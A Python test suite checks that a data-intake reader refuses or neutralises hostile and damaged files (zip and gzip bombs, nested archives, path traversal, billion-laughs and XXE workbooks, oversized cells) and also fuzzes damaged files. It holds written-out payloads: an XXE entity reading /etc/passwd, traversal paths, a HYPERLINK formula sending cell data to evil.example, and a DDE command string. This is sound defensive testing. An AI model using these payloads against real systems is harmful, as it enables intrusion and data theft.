"""Hostile and damaged files: refused in a sentence or neutralised, in bounded memory and time, nothing quoted."""

import gzip
import io
import json
import multiprocessing
import os
import random
import re
import resource
import struct
import time
import zipfile
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from functools import partial
from pathlib import Path

import polars as pl
import pytest
import xlsxwriter

from assets.intake.containers import LIMITS
from assets.intake.formats import open_delivery
from assets.intake.headers import fit_header, names_of
from schemas.errors import FileRefused, PerlinsosError
from schemas.tables import TABLES

NIK, NAME = "3510094703850001", "SITI AMINAH"
MEMBERS = TABLES["intake/members"]
HEADER = "family_card_number,nik,name,birth_date"
ROW = f"3510091203190004,{NIK},{NAME},1985-03-07"
SECONDS, MEBIBYTES = 12, 512


def written(folder: Path, data: bytes | str, name: str = "file") -> Path:
    file = folder / name
    file.write_bytes(data.encode() if isinstance(data, str) else data)
    return file


def read(file: Path) -> int:
    """Rows of a file, every chunk of it read under its header."""
    delivery = open_delivery(file, names=names_of(MEMBERS))
    count = 0
    for chunk in delivery.chunks():
        assert chunk.height <= 100_000
        assert chunk.dtypes == [pl.Int64, *[pl.String] * (chunk.width - 1)]
        count += chunk.height
    return count


def outcome(file: Path) -> str:
    """The refusal of a file, or `rows: N`; any other exception is the failure of a test."""
    try:
        return f"rows: {read(file)}"
    except FileRefused as refused:
        said = str(refused)
    assert not re.search(r"\d{16}|SITI|1985", said), said
    return said


def memory(key: str) -> float:
    """MiB this process holds (VmRSS) or held at most since the mark was reset (VmHWM)."""
    (line,) = (one for one in Path("/proc/self/status").read_text().splitlines() if one.startswith(key))
    return int(line.split()[1]) / 1024


@pytest.fixture(scope="module")
def reader() -> Iterator[ProcessPoolExecutor]:
    """A process that only reads: a child begins with its parent's memory to its name, and a test writes large files."""
    with ProcessPoolExecutor(1, multiprocessing.get_context("spawn")) as pool:
        yield pool


def measured(file: Path) -> tuple[str, float, float]:
    """Outcome of a file, seconds, and MiB it took here or in the process that reads workbooks."""
    Path("/proc/self/clear_refs").write_text("5")
    before, children = memory("VmRSS"), resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    start = time.perf_counter()
    said = outcome(file)
    seconds = time.perf_counter() - start
    child = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    return said, seconds, max(memory("VmHWM") - before, child / 1024 if child > children else 0)


def zipped(members: dict[str, bytes | str], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def gzipped(block: bytes, times: int) -> bytes:
    """Many times the same block; the members of a gzip may simply stand one behind the other."""
    return gzip.compress(block) * times


def workbook(rows: int = 3, **parts: bytes) -> bytes:
    """A workbook, some parts of it replaced."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("data")
        for at in range(rows):
            sheet.write_row(at, 0, (HEADER if at == 0 else ROW).split(","))
    if not parts:
        return out.getvalue()
    with zipfile.ZipFile(out) as archive:
        members: dict[str, bytes | str] = {name: archive.read(name) for name in archive.namelist()}
    paths = {"sheet": "xl/worksheets/sheet1.xml", "strings": "xl/sharedStrings.xml", "book": "xl/workbook.xml"}
    return zipped(members | {paths[name]: data for name, data in parts.items()})


SHEET = '<?xml version="1.0"?>{doctype}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
SHEET += "{dimension}<sheetData>{rows}</sheetData></worksheet>"


def sheet(rows: str, dimension: str = "", doctype: str = "") -> bytes:
    return SHEET.format(rows=rows, dimension=dimension, doctype=doctype).encode()


def inline(reference: str, text: str) -> str:
    return f'<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>'


LAUGHS = '<!DOCTYPE lolz [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {chr(98 + at)} "{f"&{chr(97 + at)};" * 10}">' for at in range(9)
)
LAUGHS += "]>"


# What is refused, and how


def members_of(count: int) -> bytes:
    return zipped({f"{at}.csv": f"{HEADER}\n{ROW}\n" for at in range(count)}, zipfile.ZIP_STORED)


HOSTILE: dict[str, tuple[Callable[[], bytes], str]] = {
    "zip bomb": (lambda: zipped({"a.csv": b"a,b\n" * (16 << 20)}), "unpacks to far more than a table would"),
    "gzip bomb": (lambda: gzipped(b"x" * (1 << 20), 2000), "has a row longer than"),
    "gzip bomb of zeros": (lambda: gzipped(bytes(1 << 20), 2000), "is empty"),
    "gzip bomb of rows": (lambda: gzipped(b"a,b\n" * 250_000, 2000), "unpacks to far more than a table would"),
    "gzip bomb of blank lines": (
        lambda: gzipped(b"a,b" + b"\n" * (1 << 20), 2000),
        "unpacks to far more than a table would",
    ),
    "zip in zip": (lambda: zipped({"a.zip": zipped({"b.csv": HEADER})}), "is an archive within an archive"),
    "gzip in gzip": (lambda: gzip.compress(gzip.compress(HEADER.encode())), "is an archive within an archive"),
    "zip in gzip": (lambda: gzip.compress(zipped({"b.csv": HEADER})), "is an archive within an archive"),
    "path out of the zip": (lambda: zipped({"../../etc/cron.d/x.csv": HEADER}), "path leads out of the archive"),
    "absolute path in the zip": (lambda: zipped({"/etc/passwd": HEADER}), "path leads out of the archive"),
    "windows path in the zip": (lambda: zipped({"..\\..\\x.csv": HEADER}), "path leads out of the archive"),
    "two files in the zip": (partial(members_of, 2), "holds 2 files. Send one table per file."),
    "twenty thousand files in the zip": (partial(members_of, 20_000), "holds too many files"),
    "empty zip": (partial(zipped, {}), "holds 0 files"),
    "half a zip": (lambda: zipped({"a.csv": ROW * 100})[:-30], "is damaged or incomplete"),
    "half a gzip": (lambda: gzip.compress(os.urandom(9000).hex().encode())[:-300], "is damaged or incomplete"),
    "zip by bzip2": (lambda: zipped({"a.csv": ROW}, zipfile.ZIP_BZIP2), "is packed in a way that is not read here"),
    "a million columns": (lambda: b",".join(b"c%d" % at for at in range(1_000_000)), "more than 2,000 columns"),
    "a million cells in a row": (lambda: f"{HEADER}\n".encode() + b"x," * 1_000_000 + b"\n", "rows: 2"),
    "a row without an end": (lambda: f"{HEADER}\n".encode() + b"x" * (40 << 20), "has a row longer than 8,192 kB"),
    "a cell of 10 MB": (lambda: f"{HEADER}\n".encode() + b"x" * 10_000_000 + b",1\n", "rows: 2"),
    "a quoted cell of 10 MB": (lambda: f'{HEADER}\n"'.encode() + b"x" * 10_000_000 + b'",1\n', "rows: 2"),
    "a quotation mark never closed": (lambda: f'{HEADER}\n"'.encode() + f"{ROW}\n".encode() * 300_000, "rows: 300001"),
    "nothing but quotation marks": (lambda: b'"' * 5_000_000, "has a row longer than"),
    "nothing but line ends": (lambda: f"{HEADER}\n".encode() + b"\n" * 30_000_000, "rows: 1"),
    "NUL bytes": (f"{HEADER}\n{ROW}\n{ROW[:20]}\0{ROW[20:]}\n".encode, "rows: 3"),
    "nothing but NUL bytes": (partial(bytes, 1_000_000), "is empty"),
    "brackets without end": (lambda: b"[" * 5_000_000, "is damaged or no proper JSON"),
    "objects without end": (lambda: b'{"a":' * 1_000_000, "is damaged or no proper JSON"),
    "a JSON string without end": (lambda: b'{"a":"' + b"x" * 30_000_000, "has a row longer than"),
    "a JSON number of a million digits": (lambda: b'{"nik":' + b"9" * 1_000_000 + b"}\n", "rows: 1"),
    "features without end": (
        lambda: b'{"type":"FeatureCollection","features":[' + b'{"properties":{"a":1}},' * 100_000,
        "is damaged or no proper JSON",
    ),
    "billion laughs in a workbook": (
        lambda: workbook(sheet=sheet(f'<row r="1">{inline("A1", "&j;")}</row>', doctype=LAUGHS)),
        "declares entities of its own",
    ),
    "billion laughs in its strings": (
        lambda: workbook(strings=f'<?xml version="1.0"?>{LAUGHS}<sst><si><t>&j;</t></si></sst>'.encode()),
        "declares entities of its own",
    ),
    "external entity in a workbook": (
        lambda: workbook(
            sheet=sheet(inline("A1", "&x;"), doctype='<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
        ),
        "declares entities of its own",
    ),
    "a sheet of zeros": (lambda: workbook(sheet=sheet(" " * (600 << 20))), "unpacks to far more than a table would"),
    "a cell in the last corner": (
        lambda: workbook(
            sheet=sheet(f'<row r="1">{inline("A1", "x")}</row><row r="1048576">{inline("XFD1048576", "x")}</row>')
        ),
        "is too large for a workbook, or made to be",
    ),
    "a dimension of all cells": (
        lambda: workbook(
            sheet=sheet(f'<row r="1">{inline("A1", "x")}</row>', dimension='<dimension ref="A1:XFD1048576"/>')
        ),
        "rows: 1",
    ),
    "a workbook cut in half": (lambda: workbook(500)[:3000], "is damaged or incomplete"),
    "a workbook without sheets": (lambda: workbook(book=b"<workbook/>"), "file "),
    "an office document": (lambda: zipped({"[Content_Types].xml": "", "word/document.xml": ""}), "without sheets"),
    "an encrypted workbook": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "EncryptedPackage".encode("utf-16-le") + bytes(600),
        "is protected by a password",
    ),
    "the beginning of an old workbook": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000),
        "is damaged, protected by a password or no proper workbook",
    ),
    "the beginning of Parquet": (lambda: b"PAR1" + bytes(4000), "is damaged or incomplete Parquet"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_file_is_refused_or_neutralised_in_bounded_memory_and_time(
    case: str, tmp_path: Path, reader: ProcessPoolExecutor
) -> None:
    make, told = HOSTILE[case]
    said, seconds, mebibytes = reader.submit(measured, written(tmp_path, make())).result()
    assert told in said
    assert seconds < SECONDS
    assert mebibytes < MEBIBYTES


def test_an_archive_that_says_it_is_protected_is_refused(tmp_path: Path) -> None:
    data = bytearray(zipped({"a.csv": HEADER}, zipfile.ZIP_STORED))
    at = data.rfind(b"PK\x01\x02")
    data[6] |= 1
    data[at + 8] |= 1
    assert "is protected by a password" in outcome(written(tmp_path, bytes(data)))


def test_a_directory_larger_than_it_should_be_is_refused_before_it_is_read(tmp_path: Path) -> None:
    data = bytearray(zipped({"a.csv": HEADER}))
    struct.pack_into("<I", data, data.rfind(b"PK\x05\x06") + 12, 1 << 30)
    assert "holds too many files" in outcome(written(tmp_path, bytes(data)))


def test_a_long_value_that_parquet_repeats_at_no_cost_is_refused(tmp_path: Path, reader: ProcessPoolExecutor) -> None:
    words = pl.Series("name", ["x" * 100_000], dtype=pl.Categorical)
    words.to_frame().select(pl.col("name").repeat_by(1).explode()).write_parquet(tmp_path / "one")
    pl.DataFrame(
        {"name": pl.repeat(words[0], 1, eager=True).cast(pl.Categorical).new_from_index(0, 200_000)}
    ).write_parquet(tmp_path / "file")
    assert (tmp_path / "file").stat().st_size < 1 << 20
    said, seconds, mebibytes = reader.submit(measured, tmp_path / "file").result()
    assert "unpacks to far more than a table would" in said
    assert seconds < SECONDS
    assert mebibytes < MEBIBYTES


def test_folders_links_and_devices_are_no_deliveries(tmp_path: Path) -> None:
    written(tmp_path, HEADER, "real.csv")
    (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
    os.mkfifo(tmp_path / "pipe.csv")
    assert "is a folder. Send the file itself." in outcome(tmp_path)
    assert "is a link. Send the file itself." in outcome(tmp_path / "link.csv")
    assert "is no ordinary file" in outcome(tmp_path / "pipe.csv")
    assert "cannot be opened. See that it is there" in outcome(tmp_path / "absent.csv")


def test_a_file_name_cannot_write_on_the_terminal(tmp_path: Path) -> None:
    said = outcome(written(tmp_path, "", f"\x1b[2J{'x' * 200}.csv"))
    assert "\x1b" not in said
    assert len(said) < 150


def test_formulas_and_links_arrive_as_the_values_last_saved(tmp_path: Path) -> None:
    file = tmp_path / "file.xlsx"
    with xlsxwriter.Workbook(file) as book:
        added = book.add_worksheet()
        added.write_row(0, 0, ["name", "x"])
        added.write_formula(1, 0, '=HYPERLINK("http://evil.example/?"&A2,"click")', None, "click")
        added.write_url(1, 1, "http://evil.example", string="home")
        added.write_string(2, 0, "=cmd|' /C calc'!A0")
    (chunk,) = open_delivery(file).chunks()
    assert chunk.select("c0", "c1").rows()[1:] == [("click", "home"), ("=cmd|' /C calc'!A0", None)]


def test_a_cell_longer_than_a_spreadsheet_holds_is_cut_and_its_row_named(tmp_path: Path) -> None:
    long = "x" * (LIMITS.cell_chars + 1)
    frame = pl.DataFrame({"name": ["a", long]})
    frame.write_parquet(tmp_path / "file.parquet")
    frame.write_ndjson(tmp_path / "file.jsonl")
    frame.write_csv(tmp_path / "file.csv")
    for file in sorted(tmp_path.iterdir()):
        found = pl.concat(open_delivery(file).chunks())
        assert found["row_fault"].to_list()[-2:] == [None, "cell_too_long"], file.name
        assert found["c0"].str.len_chars().max() <= LIMITS.cell_chars  # type: ignore[operator]


# Mutations


def sound(folder: Path) -> dict[str, Path]:
    """One sound file of every kind."""
    rows = [dict(zip(HEADER.split(","), ROW.split(","), strict=True)) | {"x": f'"{at}"\n,'} for at in range(40)]
    frame = pl.DataFrame(rows)
    frame.write_csv(folder / "csv")
    frame.write_csv(folder / "semicolons", separator=";", include_bom=True, line_terminator="\r\n")
    frame.write_ndjson(folder / "jsonl")
    frame.write_parquet(folder / "parquet")
    features = [{"type": "Feature", "properties": row, "geometry": {"type": "Point"}} for row in rows]
    written(folder, json.dumps({"type": "FeatureCollection", "features": features}), "geojson")
    written(folder, workbook(40), "xlsx")
    written(folder, gzip.compress((folder / "csv").read_bytes()), "gzip")
    written(folder, zipped({"a.csv": (folder / "csv").read_bytes()}), "zip")
    written(folder, (folder / "csv").read_text().encode("utf-16"), "utf16")
    return {file.name: file for file in sorted(folder.iterdir())}


def mutated(data: bytes, dice: random.Random) -> bytes:
    changed = bytearray(data)
    match dice.randrange(5):
        case 0:
            return bytes(changed[: dice.randrange(len(changed))])
        case 1:
            for _ in range(dice.randint(1, 20)):
                changed[dice.randrange(len(changed))] = dice.randrange(256)
        case 2:
            for _ in range(dice.randint(1, 5)):
                changed[dice.randrange(len(changed))] = dice.choice(b'",;\n\r\0{}[]\\\xff\xe9<>&')
        case 3:
            at, end = sorted(dice.randrange(len(changed)) for _ in "ab")
            changed[at:end] = changed[at:end] * dice.randint(0, 3)
        case _:
            at = dice.randrange(len(changed))
            changed[at:at] = dice.randbytes(dice.randint(1, 50))
    return bytes(changed)


def fuzzed(folder: Path, seeds: range) -> Iterator[tuple[int, str, str]]:
    (folder / "sound").mkdir()
    files = sound(folder / "sound")
    for seed in seeds:
        dice = random.Random(seed)  # noqa: S311 - repeatable, not secret
        # Workbooks start a process each: they get their share and no more.
        kind = dice.choice([name for name in files if name != "xlsx" or seed % 10 == 0])
        file = written(folder, mutated(files[kind].read_bytes(), dice), "mutated")
        said = "read"
        try:
            delivery = open_delivery(file, names=names_of(MEMBERS))
            for chunk in delivery.chunks():
                numbers = chunk["row_number"]
                assert numbers.is_sorted()
                assert numbers.is_unique().all()
        except PerlinsosError as refused:
            said = str(refused)
        else:
            with pytest.raises(FileRefused, match=r"lacks the column|have the same name"):
                fit_header(delivery.header, MEMBERS, delivery.name, is_named=delivery.is_named)
        yield seed, kind, said


def check_mutations(folder: Path, seeds: range) -> None:
    refused = 0
    for seed, kind, said in fuzzed(folder, seeds):
        assert not re.search(r"\d{16}|AMINAH|1985-03", said), (seed, kind, said)
        refused += said.startswith("FileRefused: ")
    assert len(seeds) / 20 < refused < len(seeds)


def test_a_few_hundred_damaged_files_are_read_or_refused_without_quoting_them(tmp_path: Path) -> None:
    check_mutations(tmp_path, range(400))


@pytest.mark.slow
def test_thousands_of_damaged_files_are_read_or_refused_without_quoting_them(tmp_path: Path) -> None:
    check_mutations(tmp_path, range(1_000, 9_000))
